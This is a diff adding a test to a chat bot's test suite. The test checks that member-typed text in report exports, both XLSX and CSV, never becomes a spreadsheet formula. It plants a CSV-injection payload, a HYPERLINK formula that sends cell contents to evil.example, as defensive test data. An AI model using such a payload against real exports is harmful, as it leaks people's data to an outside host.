@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import asyncio
+import csv
 import io
 from datetime import date, datetime, timedelta
 from typing import Any
@@ -154,3 +156,42 @@ async def test_an_export_too_big_for_the_chat_is_refused(
     [reply] = await ask(sb, ALAN, "/export")
     assert reply["text"].startswith("That is too many reports for one file here.")
     assert await audit_rows(db, "export") == []
+
+
+PLANTED = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"Details")'
+
+
+async def test_what_members_typed_is_never_a_formula_in_an_export(
+    bot_app: Any, sandbox: SandboxServer, sb: SandboxClient, db: Database, database_url: str,
+    tmp_path: Any, monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    from sqlalchemy import update
+
+    from bot.cli.entry import main
+    from bot.db.models import HouseholdEntry, HouseholdReport, Report
+
+    o = await seed_org(db)
+    started(sandbox, EVERYONE)
+    bot_app.bot_data.clock = running_clock(NOW)
+    async with db.transaction() as s:  # as /family and the report form store them
+        await s.execute(update(HouseholdEntry).values(name=PLANTED))
+    await report(db, o.members[MIA], temperature="38.2", spouse="37.5")
+    async with db.transaction() as s:
+        await s.execute(update(Report).values(note="+SUM(1,2)"))
+        await s.execute(update(HouseholdReport).values(name=PLANTED))
+
+    [doc] = await ask(sb, ALAN, "/export 2026-11-30 2026-11-30")
+    data = await sb.file(doc["document"]["file_id"])
+    cells = [c for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()
+             for c in row]
+    assert PLANTED in [c.value for c in cells] and "+SUM(1,2)" in [c.value for c in cells]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+
+    out = tmp_path / "reports.csv"
+    monkeypatch.setenv("DATABASE_URL", database_url)
+    assert await asyncio.to_thread(main, ["export", "--from", "2026-11-30", "--to",
+                                          "2026-11-30", "--format", "csv", "--out", str(out)]) == 0
+    text = out.read_text(encoding="utf-8-sig")
+    fields = [f for row in csv.reader(io.StringIO(text, newline="")) for f in row]
+    assert "'" + PLANTED in fields and "'+SUM(1,2)" in fields
+    assert not any(f.startswith(("=", "+", "-", "@")) for f in fields)
